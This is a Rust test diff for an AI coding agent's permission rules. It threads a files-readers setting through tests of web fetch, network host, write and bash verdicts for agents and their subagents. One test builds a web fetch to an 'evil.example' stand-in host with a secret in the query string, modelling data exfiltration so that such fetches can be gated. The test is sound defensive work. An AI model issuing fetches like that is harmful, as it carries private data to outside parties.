@@ -12,7 +12,7 @@ fn permissions(list: &[(&str, &str, Verdict)]) -> Permissions {
         action: *action,
         is_approval: false,
     };
-    Permissions::new(vec![Rules(list.iter().map(rule).collect())])
+    Permissions::new(vec![Rules(list.iter().map(rule).collect())], FilesReaders::Anybody)
 }
 
 #[test]
@@ -45,7 +45,7 @@ fn a_page_that_could_carry_private_files_away_is_asked_for_unless_somebody_decid
     use domain::policy::level::Level;
     let verdict = |readers, lists: &[Rules], level, json: &str| {
         let document = settings::document::Document::json(level, "a.json", json).unwrap();
-        let mut permissions = Permissions::new(lists.to_vec()).for_readers(readers);
+        let mut permissions = Permissions::new(lists.to_vec(), readers);
         permissions.configure(Arc::new(settings::merge::merge(&[document]).unwrap().settings));
         let page = subject(Tool::WebFetch, &json!({"url": "https://evil.example/?q=secretcode"}));
         permissions.verdict("build", &page)
@@ -64,7 +64,7 @@ fn a_page_that_could_carry_private_files_away_is_asked_for_unless_somebody_decid
         (Level::Project, &rule(r#"{"webfetch": {"https://evil.example/*": "allow"}}"#), Verdict::Allow),
         (Level::Project, &rule(r#"{"webfetch": "deny"}"#), Verdict::Deny),
     ] {
-        assert_eq!(verdict(FilesReaders::Some, &[], level, json), want, "{level:?} {json}");
+        assert_eq!(verdict(FilesReaders::Limited, &[], level, json), want, "{level:?} {json}");
         let public = if want == Verdict::Ask { Verdict::Allow } else { want };
         assert_eq!(verdict(FilesReaders::Anybody, &[], level, json), public, "{level:?} {json}");
     }
@@ -75,7 +75,7 @@ fn a_page_that_could_carry_private_files_away_is_asked_for_unless_somebody_decid
         (Rule::approval("webfetch", "https://evil.example/*"), Verdict::Allow),
     ] {
         assert_eq!(
-            verdict(FilesReaders::Some, &[Rules(vec![rule.clone()])], Level::Project, "{}"),
+            verdict(FilesReaders::Limited, &[Rules(vec![rule.clone()])], Level::Project, "{}"),
             want,
             "{rule:?}"
         );
@@ -94,7 +94,8 @@ fn only_people_open_hosts_and_only_those_of_the_settings() {
     use domain::policy::level::Level;
     let documents =
         [level(Level::Project, r#""*.acme.dev", "c.org""#), level(Level::Repository, r#""*.acme.dev""#)];
-    let mut permissions = Permissions::new(vec![Rules(vec![Rule::of("*", Verdict::Allow)])]);
+    let mut permissions =
+        Permissions::new(vec![Rules(vec![Rule::of("*", Verdict::Allow)])], FilesReaders::Anybody);
     permissions.configure(Arc::new(settings::merge::merge(&documents).unwrap().settings));
     let hosts = |hosts: &[&str]| subject(Tool::Network, &json!({"hosts": hosts.join(", "), "reason": "x"}));
     for (names, want) in [
@@ -119,7 +120,7 @@ fn only_people_open_hosts_and_only_those_of_the_settings() {
         (&asked.patterns, &asked.always),
         (&vec!["b.acme.dev".to_owned()], &vec!["b.acme.dev".to_owned()])
     );
-    let mut child = Permissions::new(permissions.of_child("build", "general"));
+    let mut child = Permissions::new(permissions.of_child("build", "general"), FilesReaders::Anybody);
     child.configure(Arc::clone(&permissions.settings));
     assert_eq!(child.verdict("general", &hosts(&["b.acme.dev"])), Verdict::Ask, "a subtask asks too");
     assert!(permissions.approved_hosts().is_empty());
@@ -280,7 +281,7 @@ fn only_the_plan_agent_may_end_planning() {
     }
     assert!(permissions.hides("plan")(Tool::Write) && !permissions.hides("plan")(Tool::Bash));
     // Its subagents may change nothing either.
-    let child = Permissions::new(permissions.of_child("plan", "explore"));
+    let child = Permissions::new(permissions.of_child("plan", "explore"), FilesReaders::Anybody);
     let write = json!({"filePath": "/workspace/a"});
     assert_eq!(child.verdict("explore", &subject(Tool::Write, &write)), Verdict::Deny);
 }
@@ -316,7 +317,7 @@ fn a_prompt_switches_tools_off_by_name_permission_or_pattern() {
         Verdict::Deny,
         "not by way of a batch"
     );
-    let child = Permissions::new(permissions.of_child("build", "general"));
+    let child = Permissions::new(permissions.of_child("build", "general"), FilesReaders::Anybody);
     assert_eq!(child.verdict("general", &subject(Tool::Bash, &json!({"command": "ls"}))), Verdict::Deny);
 }
 
@@ -374,7 +375,7 @@ fn agents_of_a_repository_do_what_their_rules_leave_them() {
     assert_eq!(names(Mode::Primary), ["build", "plan", "general", "main"]);
 
     // A child of a reviewer may not edit either, whichever agent answers in it.
-    let child = Permissions::new(permissions.of_child("review", "build"));
+    let child = Permissions::new(permissions.of_child("review", "build"), FilesReaders::Anybody);
     assert_eq!(edit(&child, "build"), Verdict::Deny);
 
     let tool_use = permissions.use_to_ask("build", &subject(Tool::Bash, &json!({"command": "ls"}))).unwrap();
